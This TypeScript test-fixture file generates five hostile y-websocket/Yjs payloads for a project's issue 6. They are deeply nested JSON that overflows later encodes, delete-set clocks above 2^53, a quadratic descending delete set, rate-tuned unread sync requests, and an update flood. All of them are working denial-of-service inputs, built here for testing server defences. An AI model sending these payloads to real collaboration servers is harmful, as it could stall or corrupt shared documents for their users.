// Hostile y-websocket payloads from issue 6, generated in code so that tests can reuse them. Each
// is a list of complete WebSocket frames (y-websocket messages) an ordinary participant or viewer
// could send. Every Yjs update here decodes with Y.decodeUpdate and applies with Y.applyUpdate
// today; the harm comes later or from the cost:
// - (a) a ContentJSON or ContentFormat value nested 50,000 deep: parsed fine, but every later
//   encode of the document (sync step 2, compaction) overflows the stack in JSON.stringify.
// - (b) two delete sets whose clocks are above 2^53: every later encode throws "Integer out of Range".
// - (c) a 192 KB delete set of 50,000 ranges in descending clock order over 100,000 characters:
//   Y.applyUpdate splits the struct list front to back, quadratic in the ranges (about 6 s for one
//   Y.Doc on this machine when quiet).
// - (d) 400 sync step 1 messages with an empty state vector from a viewer on a 10,000-note board:
//   1.6 KB in, one encode of the whole board out per message. Sent at 150 a second: a burst of
//   400 is refused by the default message limit (4429 at the 201st) after one or two answers.
// - (e) a flood of small valid updates, faster than any person types.
import * as Y from 'yjs';
import * as encoding from 'lib0/encoding';
import { syncStep1Frame, updateFrame } from '../bareSocket.ts';

/** Content refs of the Yjs v1 update format (yjs src/structs/Item.js, contentRefs). */
const CONTENT_JSON = 2;
const CONTENT_FORMAT = 6;

/** A client id for hand-made updates: below 2^32, as Yjs' own ids. */
const HOSTILE_CLIENT = 0x4bad_0001;

/** `[[[...]]]` nested `depth` deep: JSON.parse handles it, JSON.stringify overflows the stack. */
function nestedJson(depth: number): string {
  return '['.repeat(depth) + ']'.repeat(depth);
}

/**
 * One item at the start of root type `hostile` (no origins, so it names its parent by key), whose
 * content is a ContentJSON (an array with one deeply nested value) or a ContentFormat (attribute
 * `bold` set to it), written field by field as Yjs' UpdateEncoderV1 would.
 */
export function deeplyNestedUpdate(content: 'json' | 'format', depth = 50_000, client = HOSTILE_CLIENT): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 1); // clients with structs
  encoding.writeVarUint(e, 1); // structs of this client
  encoding.writeVarUint(e, client);
  encoding.writeVarUint(e, 0); // clock of the first struct
  encoding.writeUint8(e, content === 'json' ? CONTENT_JSON : CONTENT_FORMAT); // info: no origins, no parentSub
  encoding.writeVarUint(e, 1); // parent is a root type, named by key
  encoding.writeVarString(e, 'hostile');
  if (content === 'json') {
    encoding.writeVarUint(e, 1); // values in the ContentJSON
    encoding.writeVarString(e, nestedJson(depth));
  } else {
    encoding.writeVarString(e, 'bold');
    encoding.writeVarString(e, nestedJson(depth));
  }
  encoding.writeVarUint(e, 0); // empty delete set
  return encoding.toUint8Array(e);
}

/**
 * The two delete-set-only updates of issue 6, in the order they are sent, both for client 628073
 * (which has no structs, so the ranges wait as a pending delete set): the first deletes clocks
 * 628073..628075; the second has a range at clock ~1.18e21 (a 10-byte varuint, far above 2^53)
 * with length 2^49-1, and one at clock 115. Written as hex because lib0 cannot encode a number
 * above 2^53 from a JS number.
 */
export const HUGE_CLOCK_DELETE_SETS_HEX = ['0001e9aa2601e9aa2603', '0001e9aa2602ff80808080808080808001ffffffffffff7f7303'] as const;

export function hugeClockDeleteSetUpdates(): Uint8Array[] {
  return HUGE_CLOCK_DELETE_SETS_HEX.map((hex) => Uint8Array.from(Buffer.from(hex, 'hex')));
}

/** A real client's update typing `length` characters into root text `paste` (a long paste). */
export function longTextUpdate(client = HOSTILE_CLIENT, length = 100_000): Uint8Array {
  const doc = new Y.Doc();
  doc.clientID = client;
  doc.getText('paste').insert(0, 'x'.repeat(length));
  const update = Y.encodeStateAsUpdate(doc);
  doc.destroy();
  return update;
}

/**
 * A delete-set-only update deleting every second clock of `client` (clock 2k, length 1, for k below
 * `ranges`), the ranges in descending clock order. 50,000 ranges are 191,754 bytes (~192 KB).
 */
export function descendingDeleteSetUpdate(client = HOSTILE_CLIENT, ranges = 50_000): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 0); // no structs
  encoding.writeVarUint(e, 1); // clients in the delete set
  encoding.writeVarUint(e, client);
  encoding.writeVarUint(e, ranges);
  for (let k = ranges - 1; k >= 0; k--) {
    encoding.writeVarUint(e, 2 * k); // clock
    encoding.writeVarUint(e, 1); // length
  }
  return encoding.toUint8Array(e);
}

/** `count` updates of one real client, each one character typed at the end of root text `flood`. */
export function smallUpdates(count: number, client = HOSTILE_CLIENT): Uint8Array[] {
  const doc = new Y.Doc();
  doc.clientID = client;
  const updates: Uint8Array[] = [];
  doc.on('update', (u: Uint8Array) => updates.push(u));
  const text = doc.getText('flood');
  for (let i = 0; i < count; i++) text.insert(text.length, String.fromCharCode(97 + (i % 26)));
  doc.destroy();
  return updates;
}

export interface HostilePayload {
  /** Short id, for BENCH_STALL_PAYLOADS and test names. */
  id: string;
  title: string;
  /** The role whose link the attacker joins with. */
  role: 'participant' | 'viewer';
  /** Notes the attacked board gets (through a real client) before the attacker connects. */
  boardNotes: number;
  /** Frames sent, and answered by the server, before the attack proper (not part of the stall). */
  setup: Uint8Array[];
  /** The attack: frames sent back to back. */
  frames: Uint8Array[];
  /** False: the attacker stops reading its socket before sending (it never reads the replies). */
  reads: boolean;
  /**
   * Frames per second, to stay under a per-connection message limit (ours: 200 by default) as an
   * attacker who knows it would; undefined: back to back.
   */
  perSecond?: number;
}

export interface HostilePayloadOptions {
  /** Notes on the board of the sync-step-1 payload (d). Default 10,000. */
  notes?: number;
  /** Updates in the flood (e). Default 10,000. */
  flood?: number;
}

/** Every payload of issue 6 (a to e), in that order. */
export function hostilePayloads(opts: HostilePayloadOptions = {}): HostilePayload[] {
  const attacker = { role: 'participant' as const, boardNotes: 20, setup: [], reads: true };
  return [
    { ...attacker, id: 'a-json', title: '(a) ContentJSON nested 50,000 deep', frames: [updateFrame(deeplyNestedUpdate('json'))] },
    { ...attacker, id: 'a-format', title: '(a) ContentFormat nested 50,000 deep', frames: [updateFrame(deeplyNestedUpdate('format'))] },
    { ...attacker, id: 'b-clock', title: '(b) delete sets with clocks above 2^53', frames: hugeClockDeleteSetUpdates().map(updateFrame) },
    {
      ...attacker,
      id: 'c-ranges',
      title: '(c) 192 KB delete set, 50,000 ranges descending',
      // The ranges delete the attacker's own 100,000-character paste, sent (and stored) first.
      setup: [updateFrame(longTextUpdate())],
      frames: [updateFrame(descendingDeleteSetUpdate())],
    },
    {
      id: 'd-step1',
      title: `(d) viewer: 400 sync step 1 at 150/s, unread, ${(opts.notes ?? 10_000).toLocaleString('en')} notes`,
      role: 'viewer',
      boardNotes: opts.notes ?? 10_000,
      setup: [],
      frames: Array.from({ length: 400 }, () => syncStep1Frame()),
      reads: false,
      perSecond: 150,
    },
    {
      ...attacker,
      id: 'e-flood',
      title: `(e) flood of ${(opts.flood ?? 10_000).toLocaleString('en')} small valid updates`,
      frames: smallUpdates(opts.flood ?? 10_000).map(updateFrame),
    },
  ];
}
